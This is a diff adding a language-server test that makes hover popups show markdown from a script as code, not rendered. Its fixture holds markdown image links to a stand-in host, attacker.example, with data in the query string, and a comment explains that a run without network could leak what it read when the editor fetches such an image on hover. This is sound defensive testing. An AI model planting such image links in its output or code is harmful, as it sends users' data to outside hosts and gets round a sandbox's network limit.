@@ -111,3 +111,62 @@ async def test_the_lens_shows_a_failure_with_its_exception(lsp: Session, name: s
 async def test_no_lens_for_files_that_are_not_scripts(lsp: Session) -> None:
     uri = lsp.open("lib/no_lens_here.py", HELLO)
     assert await lenses(lsp, uri) == []
+
+
+def _outside_code_spans(markdown: str) -> str:
+    """`markdown` without its code spans, as CommonMark reads them: a run of N backticks
+    opens one, the next run of exactly N closes it, and a blank line ends the paragraph
+    (an unclosed run is then literal text)."""
+    shown: list[str] = []
+    for paragraph in markdown.split("\n\n"):
+        at = 0
+        while True:
+            start = paragraph.find("`", at)
+            if start < 0:
+                shown.append(paragraph[at:])
+                break
+            end = start
+            while end < len(paragraph) and paragraph[end] == "`":
+                end += 1
+            fence = paragraph[start:end]
+            close = end
+            while True:
+                close = paragraph.find(fence, close)
+                if close < 0 or paragraph[close + len(fence) : close + len(fence) + 1] != "`":
+                    break
+                close += len(fence) + 1
+                while close < len(paragraph) and paragraph[close] == "`":
+                    close += 1
+            if close < 0 or (close > 0 and paragraph[close - 1] == "`"):
+                shown.append(paragraph[at:end])
+                at = end
+                continue
+            shown.append(paragraph[at:start])
+            at = close + len(fence)
+    return "\n\n".join(shown)
+
+
+# A run may write a script whose input key, or a default's source, carries markdown: an image
+# whose address holds what the run read (it has no network) is fetched by the editor the
+# moment the user hovers over the key.
+LEAKY = """
+import json, sys
+
+inputs = json.load(sys.stdin)
+first = inputs["a` ![x](https://attacker.example/?d=one) `b"]
+second = inputs.get("c", ("``` ![y](https://attacker.example/?d=two)"
+
+"![z](https://attacker.example/?d=three)"))
+"""
+
+
+async def test_hover_shows_markdown_from_the_script_as_code(lsp: Session, name: str) -> None:
+    uri = lsp.open(name, LEAKY)
+    first = await hover(lsp, uri, 3, 17)
+    second = await hover(lsp, uri, 4, 21)
+    assert first is not None and second is not None
+    # The positive control: the hovers carry the script's markdown, as text.
+    assert "d=one" in first and "d=two" in second and "d=three" in second
+    for text in (first, second):
+        outside = _outside_code_spans(text)
+        assert "](" not in outside and "attacker.example" not in outside, text
